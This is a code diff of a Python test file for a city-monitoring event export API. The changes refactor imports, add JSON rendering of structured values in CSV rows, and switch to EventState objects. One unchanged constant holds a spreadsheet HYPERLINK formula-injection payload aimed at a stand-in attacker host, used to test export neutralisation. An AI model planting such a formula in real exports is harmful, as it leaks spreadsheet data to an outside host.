@@ -13,10 +13,10 @@ import pytest
 from apisupport import T0, World
 from fastapi.testclient import TestClient
 
-from citybrain.api.export import COLUMNS, neutralise
 from citybrain.core.events import new_event_id
-from citybrain.store import Role
-from citybrain.store.repositories.upserts import EventValues, upsert_events
+from citybrain.records import EventState, Role
+from citybrain.services.export import COLUMNS, neutralise
+from citybrain.store.repositories.upserts import upsert_events
 
 JPEG = b"\xff\xd8\xff\xe0" + b"anonymised snapshot" + b"\xff\xd9"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -53,14 +53,21 @@ def _expected_row(event: dict[str, Any], camera: str) -> dict[str, Any]:
 
 
 def _as_csv(row: dict[str, Any]) -> dict[str, str]:
-    return {k: "" if v is None else str(v) for k, v in row.items()}
+    """A row as CSV shows it: structured values (box, details) as compact JSON text."""
+
+    def cell(value: Any) -> str:
+        if isinstance(value, dict | list):
+            return json.dumps(value, separators=(",", ":"))
+        return "" if value is None else str(value)
+
+    return {k: cell(v) for k, v in row.items()}
 
 
 def test_csv_and_jsonl_hold_the_events_as_the_api_shows_them(
     client: TestClient, world: World
 ) -> None:
     gate, yard = world.camera("gate"), world.camera("yard, north")
-    media = client.app.state.context.media  # type: ignore[attr-defined]
+    media = world.services.media
     plain = world.event(gate, started_at=T0, ended_at=T0 + timedelta(seconds=42), score=0.75)
     crossing = world.event(yard, started_at=T0 + timedelta(minutes=1), kind="line_crossing",
                            rule="counts", zone=None, line="entry", label="car",
@@ -138,13 +145,13 @@ def test_filters_and_limit_select_what_the_list_would(client: TestClient, world:
         "events.export"))  # fmt: skip
 
 
-def _values(camera_id: int, **overrides: Any) -> EventValues:
-    values = EventValues(
+def _values(camera_id: int, **overrides: Any) -> dict[str, Any]:
+    values = dict(
         id=new_event_id(), camera_id=camera_id, kind="dwell", rule="loiter", zone="site",
         line=None, label="person", track_id=1, started_at=T0, ended_at=None, score=0.5,
         bbox=None, details={}, snapshot=None,
     )  # fmt: skip
-    values.update(overrides)  # type: ignore[typeddict-item]
+    values.update(overrides)
     return values
 
 
@@ -155,7 +162,7 @@ def test_an_export_pages_through_many_events_in_order(client: TestClient, world:
         _values(gate, track_id=i, started_at=T0 + timedelta(seconds=i // 2)) for i in range(1203)
     ]
     with world.store.session() as session:
-        upsert_events(session, rows)
+        upsert_events(session, [EventState(**r) for r in rows])
     newest_first = [r["id"] for r in sorted(rows, key=lambda r: (r["started_at"], r["id"]),
                                             reverse=True)]  # fmt: skip
     ann = world.user("ann", Role.OPERATOR)
